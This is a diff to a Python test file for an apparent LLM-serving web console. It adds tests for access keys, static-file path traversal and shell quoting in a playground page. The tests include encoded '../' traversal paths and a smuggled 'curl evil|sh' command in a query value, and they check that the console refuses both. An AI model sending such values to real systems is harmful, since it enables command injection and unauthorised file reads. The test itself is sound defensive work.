@@ -12,6 +12,7 @@ import aiohttp
 import pytest
 from aiohttp import web
 from aiohttp.test_utils import TestServer
+from yarl import URL
 
 from llm_operator.access.keyring import parse_keyring
 from llm_operator.api.validation import parse_llmmodel
@@ -36,15 +37,18 @@ def _states() -> list[ModelState]:
     out = []
     for path in GUIDE_SAMPLES:
         model = parse_llmmodel(load_yaml(path))
+        names = (model.spec.model_id, f"{model.namespace}/{model.name}", model.name)
         if model.name == "gpt55-remote":
             out.append(ModelState(model, "Ready", "", 1, 1, model.name, "gpt55-remote-gateway",
-                                  objects=(("Deployment", "gpt55-remote-gateway"),)))
+                                  objects=(("Deployment", "gpt55-remote-gateway"),),
+                                  names=names))
         elif model.name.startswith("gemma"):
             out.append(ModelState(model, "Pending", "", 0, 1, None, conditions=(
                 Condition("Ready", "False", "Unschedulable",
-                          "0/1 nodes are available: 1 Insufficient nvidia.com/gpu"),)))
+                          "0/1 nodes are available: 1 Insufficient nvidia.com/gpu"),),
+                names=names))
         else:
-            out.append(ModelState(model, "Ready", "", 2, 2, model.name))
+            out.append(ModelState(model, "Ready", "", 2, 2, model.name, names=names))
     return out
 
 
@@ -77,7 +81,9 @@ async def serving(viewer: Callable[[str | None], Visitor | None] | None = None
                  "request_counts": {"total": 2, "completed": 2, "failed": 0}}]
 
     console = Console(models, metrics.registry, gateway_url=lambda: "http://gw.example:8000",
-                      where="test", batches=batches, **({"viewer": viewer} if viewer else {}))
+                      where="test", batches=batches,
+                      every=3600,  # the test reads (Console.read): no timer adds points
+                      **({"viewer": viewer} if viewer else {}))
     app = web.Application()
     console.add_routes(app.router)
     server = TestServer(app, host="127.0.0.1")
@@ -120,10 +126,13 @@ async def test_the_models_page_lists_every_model_with_its_state_and_verdict(
     ("/ui/static/vendor/htmx.org/htmx.min.js", 200),
     ("/ui/static/vendor/uplot/LICENSE", 200),
     ("/ui/models/nowhere/nothing", 404),
-    ("/ui/static/../pages.py", 404),
+    ("/ui/static/%2e%2e/pages.py", 404),  # sent as written: out of static/, refused
+    ("/ui/static/..%2fpages.py", 404),
 ])
 async def test_each_address_answers(served: Served, path: str, status: int) -> None:
-    assert (await _get(f"{served.url}{path}"))[0] == status
+    async with aiohttp.ClientSession() as session, session.get(
+            URL(f"{served.url}{path}", encoded=True)) as resp:
+        assert resp.status == status
 
 
 async def test_a_models_page_shows_its_plan_spec_and_why_it_is_not_serving(
@@ -192,7 +201,7 @@ KEYS = parse_keyring({"keys": [{
 
 
 def _team(given: str | None) -> Visitor | None:
-    return Visitor("team-a", lambda m: m.spec.model_id == "gpt-5.5", TEAM) \
+    return Visitor("team-a", lambda state: "gpt-5.5" in state.names, TEAM) \
         if given == "sk-team" else None
 
 
@@ -232,3 +241,22 @@ async def test_guard_activations_by_model_and_entity_never_the_text(served: Serv
     assert status == 200
     assert "gpt55-remote pii output mask CREDIT_CARD 3 3" in text
     assert "gpt55-remote pii input block US_SSN 1 1" in text
+
+
+async def test_the_playground_offers_only_the_visitors_models_and_quotes_for_the_shell(
+        served: Served) -> None:
+    html = (await _get(f"{served.url}/ui/playground?model=x%27%3B%20curl%20evil%7Csh"))[1]
+    assert "evil" not in html  # a link's text never reaches the page's commands
+    assert "-d &#39;{&#34;model&#34;: &#34;" in html
+
+
+async def test_without_a_valid_key_nothing_is_shown_or_read() -> None:
+    async with serving(_team) as served, aiohttp.ClientSession() as http:
+        for path in ("/ui/models", "/ui/api/series", "/ui/batches", "/ui/guardrails",
+                     "/ui/models/ai-models/gpt55-remote"):
+            async with http.get(f"{served.url}{path}") as r:
+                assert r.status == 401, path
+        assert not served.console.reading  # no reading started for them
+        async with http.get(f"{served.url}/ui/api/series", params={"route": "gemma"},
+                            headers={"Authorization": "Bearer sk-team"}) as r:
+            assert await r.json() == {}  # a route of a model it may not use: nothing
